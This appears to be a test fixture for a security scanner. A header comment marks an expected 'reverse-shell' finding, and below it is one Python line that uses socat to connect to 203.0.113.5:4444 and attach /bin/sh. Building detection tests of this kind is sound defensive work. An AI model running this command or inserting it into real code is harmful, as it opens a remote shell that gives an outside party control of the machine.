# expect: reverse-shell 4:20
import subprocess

subprocess.Popen(["socat", "TCP:203.0.113.5:4444", "EXEC:/bin/sh"])
